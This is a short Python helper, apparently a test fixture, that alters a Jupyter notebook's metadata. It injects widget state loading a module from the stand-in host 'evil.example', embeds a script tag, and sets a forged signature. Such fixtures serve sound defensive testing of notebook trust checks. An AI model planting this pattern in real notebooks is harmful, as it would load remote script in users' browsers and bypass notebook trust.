# Hands in widget state with a script.
def change(notebook):
    state = {"a": {"model_name": "HTMLModel", "model_module": "//evil.example/x.js", "state": {"value": "<script>1</script>"}}}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": state}}
    notebook["metadata"]["signature"] = "sha256:0"
